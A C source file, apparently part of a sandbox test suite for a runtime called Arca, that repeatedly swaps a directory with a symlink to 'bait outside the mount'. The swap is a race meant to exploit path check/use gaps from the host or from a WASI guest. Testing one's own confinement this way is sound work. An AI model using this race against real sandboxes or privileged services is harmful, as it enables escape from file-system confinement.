/* swap.c - swaps ROOT/a (a directory) and ROOT/a-link (a symbolic link to the
 * bait outside the mount) for SECONDS, as fast as it can.
 *
 *   swap ROOT SECONDS [exchange|rename]
 *
 * "exchange" (the default natively) uses renameat2(RENAME_EXCHANGE), the
 * fastest and most aggressive swap a host process can make; "rename" uses four
 * plain renames, which is what a guest can do through WASI (path_rename), so
 * the same source serves as the host attacker (gcc) and as the attacker in a
 * second Arca instance or a sibling process (arca cc).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#ifdef __linux__
#include <sys/syscall.h>
#include <linux/fs.h>
#endif

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: swap ROOT SECONDS [exchange|rename]\n");
        return 2;
    }
    char a[512], l[512], t[512];
    snprintf(a, sizeof a, "%s/a", argv[1]);
    snprintf(l, sizeof l, "%s/a-link", argv[1]);
    snprintf(t, sizeof t, "%s/a-tmp", argv[1]);
#ifdef __linux__
    int exchange = argc < 4 || strcmp(argv[3], "exchange") == 0;
#endif
    double end = now() + atof(argv[2]);
    long swaps = 0;
    while (now() < end) {
#ifdef __linux__
        if (exchange) {
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, l, RENAME_EXCHANGE) == 0) swaps++;
            continue;
        }
#endif
        /* a -> a-tmp, a-link -> a, (the link is now at a), then back */
        if (rename(a, t) != 0) continue;
        rename(l, a);
        rename(a, l);
        rename(t, a);
        swaps++;
    }
    printf("swaps %ld\n", swaps);
    return 0;
}
